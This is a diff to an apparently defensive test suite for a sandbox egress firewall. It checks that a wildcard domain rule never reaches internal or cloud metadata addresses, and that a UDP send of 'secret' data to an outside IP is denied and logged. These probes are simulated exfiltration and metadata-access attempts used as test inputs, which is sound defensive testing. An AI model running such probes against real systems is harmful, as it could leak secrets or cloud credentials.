@@ -100,13 +100,13 @@ async def test_cidr_rule_allows_raw_ip(sb_factory, runtime):
 
 
 async def test_wildcard_domain_never_opens_private_or_metadata(sb_factory, runtime, world):
+    before = (world.servers[INTERNAL[:2]].received, world.servers[METADATA[:2]].received)
     sb = await sb_factory(allow("*.example.com"))
     r = await sb.exec(HTTP_GET.format(url="http://internal.example.com/"))
     assert r.exit_code == 1
     r2 = await sb.exec(HTTP_GET.format(url=f"http://{METADATA[0]}/latest/meta-data/"))
     assert r2.exit_code == 1
-    assert world.servers[INTERNAL[:2]].received == 0
-    assert world.servers[METADATA[:2]].received == 0
+    assert (world.servers[INTERNAL[:2]].received, world.servers[METADATA[:2]].received) == before
     reasons = {e.dst_ip: e.reason for e in connects(runtime, sb)}
     assert "private" in reasons[INTERNAL[0]]
     assert "metadata" in reasons[METADATA[0]]
@@ -243,3 +243,15 @@ async def test_many_connections_each_recorded(sb_factory, runtime):
     ))
     await asyncio.sleep(0.3)
     assert len(connects(runtime, sb, dst_ip="198.51.100.30")) == 30
+
+
+async def test_udp_datagram_attempt_is_an_attributed_denied_event(sb_factory, runtime):
+    sb = await sb_factory()
+    r = await sb.exec(py("import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\n"
+                         "for _ in range(5): s.sendto(b'secret', ('203.0.113.10', 9999))"))
+    evs = [e for e in runtime.store.events(sandbox_id=sb.id, kind="connect") if e.protocol == "udp"]
+    assert len(evs) == 1  # five datagrams, one event (rate-limited per process and destination)
+    ev = evs[0]
+    assert (ev.dst_ip, ev.dst_port, ev.verdict) == ("203.0.113.10", 9999, "deny") and ev.step == r.step
+    assert "python3" in ev.exe
+    assert any(f.rule_id == "egress-denied" and f.step == r.step for f in runtime.store.findings(sandbox_id=sb.id))
